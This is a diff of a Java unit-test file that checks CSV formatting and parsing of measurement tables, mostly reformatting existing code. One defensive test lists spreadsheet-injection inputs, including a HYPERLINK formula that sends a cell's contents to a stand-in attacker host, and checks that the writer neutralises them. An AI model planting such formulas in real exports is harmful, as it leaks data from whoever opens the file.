@@ -1,3 +1,18 @@
+/*
+ * Copyright 2026 The Ferrum developers
+ *
+ * Licensed under the Apache License, Version 2.0 (the "License");
+ * you may not use this file except in compliance with the License.
+ * You may obtain a copy of the License at
+ *
+ *     http://www.apache.org/licenses/LICENSE-2.0
+ *
+ * Unless required by applicable law or agreed to in writing, software
+ * distributed under the License is distributed on an "AS IS" BASIS,
+ * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+ * See the License for the specific language governing permissions and
+ * limitations under the License.
+ */
 package org.ferrum.io.table;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
@@ -24,8 +39,12 @@ class TableCsvTest {
     Path dir;
 
     private static Table roiTable() {
-        return Table.builder(Column.text("region"), Column.number("label", null), Column.number("n", null),
-                        Column.number("mean", PhysicalUnit.PPM), Column.number("sd", PhysicalUnit.PPM),
+        return Table.builder(
+                        Column.text("region"),
+                        Column.number("label", null),
+                        Column.number("n", null),
+                        Column.number("mean", PhysicalUnit.PPM),
+                        Column.number("sd", PhysicalUnit.PPM),
                         Column.number("r2star", PhysicalUnit.PER_SECOND))
                 .row("caudate", 1, 1200, 0.0625, 0.01, 35.5)
                 .row("putamen, left", 2, 1, -0.125, Double.NaN, 0.1 + 0.2)
@@ -36,13 +55,15 @@ class TableCsvTest {
     @Test
     void writesHeaderWithUnitsQuotedTextAndPlainNumbers() {
         String csv = TableCsv.format(roiTable());
-        assertEquals("""
+        assertEquals(
+                """
                 region,label,n,mean [ppm],sd [ppm],r2star [1/s]
                 "caudate",1,1200,0.0625,0.01,35.5
                 "putamen, left",2,1,-0.125,,0.30000000000000004
                 "say ""pallidum""
                 line two",3,0,,,-0.0
-                """, csv);
+                """,
+                csv);
     }
 
     @Test
@@ -60,8 +81,22 @@ class TableCsvTest {
     void everyDoubleSurvivesBitForBit() throws TableFormatException {
         Random random = new Random(42);
         Table.Builder b = Table.builder(Column.number("x", PhysicalUnit.HERTZ));
-        double[] special = {0, -0.0, 1e15, -1e15, 1e15 + 1, 999_999_999_999_999.0, Double.MIN_VALUE, Double.MAX_VALUE,
-            -Double.MAX_VALUE, Double.POSITIVE_INFINITY, Double.NEGATIVE_INFINITY, 1.0 / 3, Math.PI, 123456789.125};
+        double[] special = {
+            0,
+            -0.0,
+            1e15,
+            -1e15,
+            1e15 + 1,
+            999_999_999_999_999.0,
+            Double.MIN_VALUE,
+            Double.MAX_VALUE,
+            -Double.MAX_VALUE,
+            Double.POSITIVE_INFINITY,
+            Double.NEGATIVE_INFINITY,
+            1.0 / 3,
+            Math.PI,
+            123456789.125
+        };
         for (double v : special) {
             b.row(v);
         }
@@ -76,7 +111,10 @@ class TableCsvTest {
             if (Double.isNaN(expected)) {
                 assertTrue(Double.isNaN(got));
             } else {
-                assertEquals(Double.doubleToRawLongBits(expected), Double.doubleToRawLongBits(got), "row " + r + ": " + expected);
+                assertEquals(
+                        Double.doubleToRawLongBits(expected),
+                        Double.doubleToRawLongBits(got),
+                        "row " + r + ": " + expected);
             }
         }
     }
@@ -95,14 +133,19 @@ class TableCsvTest {
 
     @Test
     void nanInAOneColumnTableIsAnEmptyLineThatSurvives() throws TableFormatException {
-        Table t = Table.builder(Column.number("x", PhysicalUnit.SECOND)).row(Double.NaN).row(1).build();
+        Table t = Table.builder(Column.number("x", PhysicalUnit.SECOND))
+                .row(Double.NaN)
+                .row(1)
+                .build();
         assertEquals("x [s]\n\n1\n", TableCsv.format(t));
         assertEquals(t, TableCsv.parse(TableCsv.format(t)));
     }
 
     @Test
     void dimensionlessColumnsComeBackWithoutUnit() throws TableFormatException {
-        Table t = Table.builder(Column.number("ratio", PhysicalUnit.DIMENSIONLESS)).row(0.5).build();
+        Table t = Table.builder(Column.number("ratio", PhysicalUnit.DIMENSIONLESS))
+                .row(0.5)
+                .build();
         Table back = TableCsv.parse(TableCsv.format(t));
         assertNull(back.columns().get(0).unit());
         assertEquals(0.5, back.number(0, "ratio"));
@@ -146,7 +189,8 @@ class TableCsvTest {
 
     @Test
     void rowOfTheWrongWidthNamesTheLine() {
-        TableFormatException e = assertThrows(TableFormatException.class, () -> TableCsv.parse("a,b\n1,2\n\"x\ny\",3,4\n"));
+        TableFormatException e =
+                assertThrows(TableFormatException.class, () -> TableCsv.parse("a,b\n1,2\n\"x\ny\",3,4\n"));
         assertEquals("line 3: 3 cells, but the header has 2 columns", e.getMessage());
     }
 
@@ -158,11 +202,15 @@ class TableCsvTest {
 
     @Test
     void brokenQuotingIsReported() {
-        assertEquals("line 2: a quoted cell is never closed",
-                assertThrows(TableFormatException.class, () -> TableCsv.parse("a\n\"open\n")).getMessage());
-        assertTrue(assertThrows(TableFormatException.class, () -> TableCsv.parse("a\n\"x\"y\n")).getMessage()
+        assertEquals(
+                "line 2: a quoted cell is never closed",
+                assertThrows(TableFormatException.class, () -> TableCsv.parse("a\n\"open\n"))
+                        .getMessage());
+        assertTrue(assertThrows(TableFormatException.class, () -> TableCsv.parse("a\n\"x\"y\n"))
+                .getMessage()
                 .startsWith("line 2: text after the closing quote"));
-        assertTrue(assertThrows(TableFormatException.class, () -> TableCsv.parse("a\nx\"y\n")).getMessage()
+        assertTrue(assertThrows(TableFormatException.class, () -> TableCsv.parse("a\nx\"y\n"))
+                .getMessage()
                 .startsWith("line 2: a quote inside an unquoted cell"));
     }
 
@@ -185,8 +233,18 @@ class TableCsvTest {
 
     @Test
     void spreadsheetFormulasAreNeutralisedAndReadBackExactly() throws TableFormatException {
-        String[] hostile = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
-            "'=already guarded", "'plain quote", "''", "caudate"};
+        String[] hostile = {
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1:A9)",
+            "\t=1",
+            "\r=1",
+            "'=already guarded",
+            "'plain quote",
+            "''",
+            "caudate"
+        };
         Table.Builder b = Table.builder(Column.text("=region"), Column.number("mean", PhysicalUnit.PPM));
         for (String h : hostile) {
             b.row(h, -1.5);
@@ -194,9 +252,14 @@ class TableCsvTest {
         Table t = b.build();
         String csv = TableCsv.format(t);
         for (String line : csv.split("\n")) {
-            assertFalse(line.matches("^\"?[=+@-].*") || line.matches(".*,\"?[=+@].*"), "a cell starts like a formula: " + line);
+            assertFalse(
+                    line.matches("^\"?[=+@-].*") || line.matches(".*,\"?[=+@].*"),
+                    "a cell starts like a formula: " + line);
         }
-        assertTrue(csv.startsWith("\"'=region\",mean [ppm]\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",-1.5\n"), csv);
+        assertTrue(
+                csv.startsWith(
+                        "\"'=region\",mean [ppm]\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",-1.5\n"),
+                csv);
         assertTrue(csv.contains("\n\"''=already guarded\",") && csv.contains("\n\"'plain quote\","), csv);
         assertEquals(t, TableCsv.parse(csv), "Ferrum reads back the original texts, and -1.5 stays a number");
     }
